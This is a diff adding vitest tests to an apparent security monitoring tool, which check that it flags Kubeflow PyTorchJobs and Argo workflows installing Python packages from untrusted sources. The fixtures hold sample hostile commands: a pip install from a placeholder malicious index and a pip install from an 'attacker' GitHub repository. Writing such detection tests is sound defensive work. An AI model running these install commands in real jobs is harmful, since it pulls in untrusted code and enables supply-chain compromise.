@@ -1,12 +1,14 @@
 import { describe, expect, it } from 'vitest';
 import { replayEvents } from '../../bridge/replay.js';
 import { KubeflowConfig } from '../../connectors/kubeflow/config.js';
+import { kubeflowConnector } from '../../connectors/kubeflow/index.js';
 import { normalizeKfp } from '../../connectors/kubeflow/kfp/normalize.js';
 import { vertexConnector } from '../../connectors/vertex/index.js';
 import { packageSourcesOfCommand, packageSourcesOfEnv } from '../../core/integrity/packages.js';
 import { RulesConfig } from '../../core/rules/engine.js';
 import { NormalizedEvent } from '../../core/schema/index.js';
 import { ctRecord, normOne as smOne } from '../connectors/sagemaker/helpers.js';
+import { ctx as kubeflowCtx } from '../connectors/kubeflow/helpers.js';
 import { auditEntry, ctx as vertexCtx, LOC, V1 } from '../connectors/vertex/samples.js';
 import { readFixtureJson } from '../helpers/fixtures.js';
 
@@ -122,5 +124,33 @@ describe('package sources of env and commands', () => {
     expect(packageSourcesOfCommand(['python', 'train.py', '--index-url', EVIL])).toEqual([]);
     expect(packageSourcesOfEnv({ UV_INDEX: `internal=${EVIL} https://b.example/s`, PATH: 'https://not.an.index/' })).toEqual([EVIL, 'https://b.example/s']);
     expect(packageSourcesOfEnv([{ name: 'PIP_FIND_LINKS', value: 'https://c.example/w' }, { name: 'X', valueFrom: {} }])).toEqual(['https://c.example/w']);
+  });
+});
+
+describe('Kubernetes audit: training operator jobs and Argo workflows', () => {
+  const PIN = `gcr.io/proj/trainer@sha256:${'b'.repeat(64)}`;
+  const write = (resource: string, apiGroup: string, requestObject: unknown) => ({
+    ...readFixtureJson<Obj>('kubeflow', 'k8s-audit', 'falco_create_nginx_pod_privileged.json'),
+    auditID: `pkg-${resource}`, level: 'Request', verb: 'create',
+    requestURI: `/apis/${apiGroup}/v1/namespaces/kubeflow-user-alice/${resource}`,
+    user: { username: 'alice@example.com', groups: ['system:authenticated'] },
+    objectRef: { resource, namespace: 'kubeflow-user-alice', name: 'x1', apiGroup, apiVersion: 'v1' },
+    responseStatus: { metadata: {}, code: 201 }, requestObject, responseObject: undefined,
+  });
+  const one = (r: unknown) => NormalizedEvent.parse(kubeflowConnector.normalize!(r, kubeflowCtx()).events[0]);
+
+  it('a PyTorchJob whose pinned container pip-installs from a foreign index, and an Argo script template installing git+https, alert', () => {
+    const pytorch = one(write('pytorchjobs', 'kubeflow.org', {
+      metadata: { name: 'bert-ft' },
+      spec: { pytorchReplicaSpecs: { Master: { replicas: 1, template: { spec: { containers: [{ name: 'pytorch', image: PIN, command: ['sh', '-c', `pip install --extra-index-url ${EVIL} helpers && torchrun train.py`] }] } } } } },
+    }));
+    expect(pytorch.ml?.job?.package_sources).toEqual([EVIL]);
+    expect(alertsOf([pytorch]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
+    const argo = one(write('workflows', 'argoproj.io', {
+      metadata: { name: 'wf', labels: { 'pipeline/runid': 'rid-1' } },
+      spec: { templates: [{ name: 'prep', script: { image: PIN, command: ['sh'], source: 'pip install git+https://github.com/attacker/helpers.git\npython prep.py' } }, { name: 'env', container: { image: PIN, env: [{ name: 'PIP_INDEX_URL', value: 'https://pypi.org/simple' }] } }] },
+    }));
+    expect(argo.ml?.job?.package_sources).toEqual(['git+https://github.com/attacker/helpers.git', 'https://pypi.org/simple']);
+    expect(alertsOf([argo]).map((a) => a.details?.package_sources)).toEqual([['git+https://github.com/attacker/helpers.git']]);
   });
 });
